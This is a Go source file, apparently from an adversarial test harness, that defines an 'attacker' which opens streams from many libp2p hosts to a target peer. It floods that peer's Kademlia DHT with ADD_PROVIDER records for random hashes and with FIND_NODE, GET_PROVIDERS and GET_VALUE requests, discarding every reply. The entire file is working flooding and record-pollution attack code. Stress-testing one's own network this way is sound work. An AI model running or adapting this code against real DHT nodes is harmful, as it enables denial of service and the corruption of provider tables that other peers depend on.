package main

import (
	"context"
	"crypto/rand"
	"errors"
	"io"

	dhtpb "github.com/libp2p/go-libp2p-kad-dht/pb"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	libp2pprotocol "github.com/libp2p/go-libp2p/core/protocol"
	"github.com/multiformats/go-multihash"
	"google.golang.org/protobuf/encoding/protodelim"
)

// pipes are open streams of one protocol, by key; a broken stream is reopened.
type pipes struct {
	a    *attacker
	to   peer.AddrInfo
	id   libp2pprotocol.ID
	open map[int]network.Stream
}

func (a *attacker) pipes(to peer.AddrInfo, id libp2pprotocol.ID) pipes {
	return pipes{a: a, to: to, id: id, open: map[int]network.Stream{}}
}

// write sends bytes on a key's stream.
func (p pipes) write(ctx context.Context, key int, write func(io.Writer) error) error {
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	s := p.open[key]
	if s == nil {
		if _, err := connected(ctx, p.a.hosts[key], p.to); err != nil {
			return err
		}
		var err error
		if s, err = p.a.hosts[key].NewStream(ctx, p.to.ID, p.id); err != nil {
			return err
		}
		p.open[key] = s
		go func() { _, _ = io.Copy(io.Discard, s) }() // ignore all answers
	}
	if deadline, ok := ctx.Deadline(); ok {
		_ = s.SetWriteDeadline(deadline)
	}
	err := write(s)
	if err != nil {
		_ = s.Reset()
		delete(p.open, key)
	}
	return err
}

func (a *attacker) kad() libp2pprotocol.ID {
	return libp2pprotocol.ID("/starling/" + a.genesis.Tag() + "/kad/1.0.0")
}

// providerRecords floods the DHT's provider records, each under another key.
func (a *attacker) providerRecords(ctx context.Context, c *count, keys []int, to peer.AddrInfo) {
	p := a.pipes(to, a.kad())
	pace(ctx, 12, func(i int) {
		key := keys[i%len(keys)]
		self := peer.AddrInfo{ID: a.hosts[key].ID(), Addrs: to.Addrs[:1]}
		err := p.write(ctx, key, func(w io.Writer) error {
			for range 20 {
				m := dhtpb.NewMessage(dhtpb.Message_ADD_PROVIDER, randomHash(), 0)
				m.ProviderPeers = dhtpb.RawPeerInfosToPBPeers([]peer.AddrInfo{self})
				if _, err := protodelim.MarshalTo(w, m); err != nil {
					return err
				}
			}
			return nil
		})
		c.note(err)
	})
}

// values floods the DHT with requests for values and with unsigned values.
func (a *attacker) values(ctx context.Context, c *count, keys []int, to peer.AddrInfo) {
	p := a.pipes(to, a.kad())
	pace(ctx, 12, func(i int) {
		err := p.write(ctx, keys[i%len(keys)], func(w io.Writer) error {
			var errs []error
			for _, kind := range []dhtpb.Message_MessageType{dhtpb.Message_FIND_NODE, dhtpb.Message_GET_PROVIDERS,
				dhtpb.Message_GET_VALUE} {
				_, err := protodelim.MarshalTo(w, dhtpb.NewMessage(kind, randomHash(), 0))
				errs = append(errs, err)
			}
			return errors.Join(errs...)
		})
		c.note(err)
	})
}

func randomHash() multihash.Multihash {
	var digest [32]byte
	_, _ = rand.Read(digest[:]) // never fails
	h, _ := multihash.Encode(digest[:], multihash.SHA2_256)
	return h
}
